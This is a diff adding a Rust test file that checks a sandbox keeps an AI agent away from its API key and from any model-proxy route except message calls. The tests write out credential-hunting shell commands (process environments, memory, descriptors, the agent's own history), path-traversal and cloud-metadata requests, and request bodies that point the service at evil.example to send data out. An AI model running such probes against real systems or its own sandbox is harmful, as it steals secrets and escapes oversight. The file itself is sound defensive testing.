@@ -1,0 +1,159 @@
+//! Attacks on the key, and on the door to the model service.
+
+use super::{Attack, KEY, withstand};
+use crate::support::Stage;
+
+stories! {
+    the_key_is_out_of_reach,
+    the_door_to_the_model_leads_nowhere_else,
+}
+
+/// What is the key's in any spelling, without spelling it: an attack that does would find itself.
+const PATTERN: &str = r#"
+half=sentinel; word="made-up-$half-7e1d"
+b64=$(printf %s "$word" | base64 -w0 | cut -c2-20); hex=$(printf %s "$word" | od -An -tx1 | tr -d ' \n')
+find_it() { tr '\0' '\n' | grep -aE "$word|$hex|$b64" | grep -av half=sentinel | wc -l; }
+"#;
+
+async fn the_key_is_out_of_reach(stage: &Stage) {
+    let found = |name, search: &str| Attack {
+        name,
+        command: format!("{PATTERN}\n{search}").leak(),
+        prints: "0",
+    };
+    let attacks = [
+        found("S1: in the environment", "env | find_it"),
+        found(
+            "S1: in the environment of any process",
+            "cat /proc/[0-9]*/environ 2>/dev/null | find_it",
+        ),
+        found("S1: in an argument of any process", "cat /proc/[0-9]*/cmdline | find_it"),
+        found(
+            "S1: in any file",
+            "grep -rahsE \"$word|$hex|$b64\" /app /logs /tmp /home /run /etc /opt/runbookd/in \"$HOME\" /dev/shm 2>/dev/null | find_it",
+        ),
+        found(
+            "S1: in the memory of any process",
+            "for maps in /proc/[0-9]*/maps; do pid=${maps%/maps}; [ $pid = /proc/self ] && continue
+               dd if=$pid/mem bs=1M count=1 2>/dev/null; done | find_it",
+        ),
+        found(
+            "S1: in a descriptor of any process",
+            "for file in /proc/[0-9]*/fd/[3-9]; do [ -f $file ] && head -c 100000 $file; done 2>/dev/null | find_it",
+        ),
+        found(
+            "S1: in the agent's own history",
+            "cat \"$HOME\"/.claude*/projects/*/* \"$HOME\"/.claude.json 2>/dev/null | find_it",
+        ),
+    ];
+    let aftermath = withstand(stage, &attacks, |_| {}).await;
+    let fingerprint = runbookd::provider::scripted::Fingerprint::of(KEY);
+    for entry in aftermath.asked.iter().filter(|entry| entry.method == "POST") {
+        assert_eq!(
+            entry.auth.api_key.as_ref(),
+            Some(&fingerprint),
+            "the service gets the real one"
+        );
+    }
+}
+
+/// Shows the status, and the word for what was wrong.
+const ASK: &str = r#"
+ask() { curl -s -o /tmp/answer -w '%{http_code} ' --max-time 10 --unix-socket /run/runbookd/model/model.sock "$@"
+  grep -oE 'blocked by policy|own token is missing|cannot be read|message_start|"object"|"data"' /tmp/answer | head -n 1; }
+say() { ask -X POST http://model/v1/messages -H "x-api-key: $ANTHROPIC_API_KEY" -H 'content-type: application/json' -d "$1"; }
+"#;
+
+async fn the_door_to_the_model_leads_nowhere_else(stage: &Stage) {
+    let asks =
+        |name, ask: &str, prints| Attack { name, command: format!("{ASK}\n{ask}").leak(), prints };
+    let says = |name, body: &str| Attack {
+        name,
+        command: format!("{ASK}\nsay '{body}'").leak(),
+        prints: "400 blocked by policy",
+    };
+    let attacks = [
+        asks(
+            "S2: without the run's token",
+            "ask http://model/v1/models",
+            "401 own token is missing",
+        ),
+        asks(
+            "S2: with a key of the attacker's",
+            "ask http://model/v1/models -H 'x-api-key: sk-ant-api03-of-somebody-else'",
+            "401 own token is missing",
+        ),
+        asks(
+            "S2: files of an account",
+            "ask http://model/v1/files -H \"x-api-key: $ANTHROPIC_API_KEY\"",
+            "404 blocked by policy",
+        ),
+        asks(
+            "S2: batches, which answer later and elsewhere",
+            "ask -X POST http://model/v1/messages/batches -d '{}' -H \"x-api-key: $ANTHROPIC_API_KEY\"",
+            "404 blocked by policy",
+        ),
+        asks(
+            "S2: the way up",
+            "ask --path-as-is http://model/v1/messages/../files -H \"x-api-key: $ANTHROPIC_API_KEY\"",
+            "404 blocked by policy",
+        ),
+        asks(
+            "S2: the way up, encoded",
+            "ask --path-as-is http://model/v1/messages/%2e%2e/files -H \"x-api-key: $ANTHROPIC_API_KEY\"",
+            "404 blocked by policy",
+        ),
+        asks(
+            "S2: two slashes",
+            "ask http://model//v1/files -H \"x-api-key: $ANTHROPIC_API_KEY\"",
+            "404 blocked by policy",
+        ),
+        asks(
+            "S6: another host by its name",
+            "ask http://model/v1/files -H 'Host: metadata.google.internal' -H \"x-api-key: $ANTHROPIC_API_KEY\"",
+            "404 blocked by policy",
+        ),
+        asks(
+            "S6: another host by an absolute address",
+            "ask --request-target http://169.254.169.254/latest/meta-data http://model/ -H \"x-api-key: $ANTHROPIC_API_KEY\"",
+            "404 blocked by policy",
+        ),
+        says(
+            "S3: web search by the service",
+            r#"{"model":"m","max_tokens":9,"messages":[],"tools":[{"type":"web_search_20250305","name":"web_search"}]}"#,
+        ),
+        says(
+            "S3: web fetch by the service",
+            r#"{"model":"m","max_tokens":9,"messages":[],"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}"#,
+        ),
+        says(
+            "S3: code run by the service",
+            r#"{"model":"m","max_tokens":9,"messages":[],"tools":[{"type":"code_execution_20250825","name":"code_execution"}]}"#,
+        ),
+        says(
+            "S3: an MCP server called by the service",
+            r#"{"model":"m","max_tokens":9,"messages":[],"mcp_servers":[{"type":"url","url":"https://evil.example","name":"x"}]}"#,
+        ),
+        says(
+            "S3: an image fetched by the service",
+            r#"{"model":"m","max_tokens":9,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/?data"}}]}]}"#,
+        ),
+        says(
+            "S3: a document in a tool result, fetched by the service",
+            r#"{"model":"m","max_tokens":9,"messages":[{"role":"user","content":[{"type":"tool_result","tool_use_id":"t","content":[{"type":"document","source":{"type":"url","url":"https://evil.example/"}}]}]}]}"#,
+        ),
+        asks(
+            "S3: the same key twice, the harmless one last",
+            r#"say '{"model":"m","max_tokens":9,"messages":[],"mcp_servers":[{"type":"url","url":"https://evil.example","name":"x"}],"mcp_servers":[]}'"#,
+            "400 cannot be read",
+        ),
+    ];
+    let aftermath = withstand(stage, &attacks, |_| {}).await;
+    let paths = aftermath.asked.iter().map(|entry| entry.path.as_str());
+    let strange: Vec<&str> =
+        paths.filter(|path| !path.starts_with("/v1/messages") && *path != "/").collect();
+    assert_eq!(strange, Vec::<&str>::new(), "nothing of it reached the service");
+    let ledger = aftermath.scene.text("logs/gateway.jsonl");
+    let n_refused = ledger.lines().filter(|line| line.contains(r#""outcome":"refused""#)).count();
+    assert_eq!(n_refused, attacks.len(), "each is in the ledger");
+}
